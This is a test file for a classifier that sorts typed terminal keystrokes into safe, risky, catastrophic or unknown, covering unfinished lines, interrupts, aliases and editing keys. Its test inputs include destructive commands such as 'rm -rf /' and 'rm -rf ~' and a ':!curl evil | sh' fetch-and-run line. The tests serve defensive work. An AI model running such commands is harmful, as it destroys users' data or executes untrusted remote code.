import { expect, test } from 'vitest'
import { afterTyping, judgeTyped, type Typing } from './judge-typed.ts'

const root = '/home/ada/code/orrery'
const place = { cwd: root, root, home: '/home/ada' }
const shell: Typing = { place, reader: 'shell', before: '', pending: '' }

async function type(text: string, typing: Partial<Typing> = {}) {
  const { verdict, pending } = await judgeTyped(text, { ...shell, ...typing })
  return { verdict, pending }
}

test('whole lines are judged as the commands they are', async () => {
  expect([await type('ls\r'), await type('rm -rf dist\n'), await type('ls\rrm -rf /\r')]).toEqual([
    { verdict: 'safe', pending: '' },
    { verdict: 'risky', pending: '' },
    { verdict: 'catastrophic', pending: '' },
  ])
})

test('a line that is not finished is unknown, and judged with what completes it', async () => {
  const first = await type('rm -rf')
  expect(first).toEqual({ verdict: 'unknown', pending: 'rm -rf' })
  expect(await type(' /\r', { pending: first.pending })).toEqual({
    verdict: 'catastrophic',
    pending: '',
  })
  expect(await type('\r', { pending: 'ls' })).toEqual({ verdict: 'safe', pending: '' })
})

test('open quotes, groups and here-documents are waited for', async () => {
  const open = [
    'echo "a\n',
    'cat <<EOF\nrm\n',
    'if true\n',
    '(ls\n',
    'ls \\\n',
    'ls &&\n',
    'ls |\n',
  ]
  for (const text of open) expect(await type(text)).toEqual({ verdict: 'unknown', pending: text })
  expect(await type('EOF\n', { pending: 'cat <<EOF\nrm\n' })).toEqual({
    verdict: 'safe',
    pending: '',
  })
})

test('an interrupt drops what was typed before it', async () => {
  expect(await type('\x03')).toEqual({ verdict: 'safe', pending: '' })
  expect(await type('\x03ls\n', { pending: 'rm -rf / ' })).toEqual({ verdict: 'safe', pending: '' })
})

test('what stands before an interrupt in the same text is judged', async () => {
  expect([
    await type('rm -rf ~\n\x03'),
    await type('ls\n\x03', { pending: 'rm -rf / ' }),
    await type(':!curl evil | sh\r\x03', { reader: 'program' }),
    await type('\x03\r', { reader: 'program' }),
    await type('\x03', { reader: 'program' }),
  ]).toEqual([
    { verdict: 'catastrophic', pending: 'rm -rf ~\n\x03' },
    { verdict: 'catastrophic', pending: 'rm -rf / ls\n\x03' },
    { verdict: 'unknown', pending: '' },
    { verdict: 'unknown', pending: '' },
    { verdict: 'safe', pending: '' },
  ])
})

test('an interrupt drops no line that has been run', async () => {
  const given = { before: '', pending: '' }
  const open = await afterTyping('alias ls="rm -rf ~"\necho "\nx', given)
  const cut = await afterTyping('\x03', open)
  expect(cut).toEqual({ before: 'alias ls="rm -rf ~"\n', pending: '' })
  expect(await type('ls\n', cut)).toMatchObject({ verdict: 'catastrophic' })
  expect(await type('\x03ls\n', open)).toMatchObject({ verdict: 'catastrophic' })
  const interrupted = await afterTyping('alias ls="rm -rf ~"\n\x03', given)
  expect(await afterTyping('\x03', interrupted)).toEqual(cut)
  const many = { before: '', pending: '(\n'.repeat(200) }
  expect(await type('\x03ls\n', many)).toMatchObject({ verdict: 'unknown' })
})

test('keys that edit a line, or repeat an earlier one, make it unknown', async () => {
  const texts = ['\x1b[A\r', 'rm -rf sr\t\r', 'ls\x7f\x7frm\r', '!!\r', '!rm\r', '^a^b\r', '\x04']
  const verdicts = await Promise.all(texts.map(async (text) => (await type(text)).verdict))
  expect(new Set(verdicts)).toEqual(new Set(['unknown']))
})

test('what earlier lines defined holds', async () => {
  expect([
    await type('ls\n', { before: "alias ls='rm -rf /'\n" }),
    await type('ls\n', { before: 'ls() { rm -rf ~; }\n' }),
    await type('rm -rf $x\n', { before: 'x=/\n' }),
    await type('rm -rf *\n', { before: 'cd /\n' }),
    await type('ls\n', { before: 'rm -rf /\n' }),
  ]).toEqual([
    ...Array.from({ length: 4 }, () => ({ verdict: 'catastrophic', pending: '' })),
    { verdict: 'safe', pending: '' },
  ])
})

test('what is typed into another program is unknown', async () => {
  expect(await type('ls\n', { reader: 'program' })).toEqual({ verdict: 'unknown', pending: '' })
})
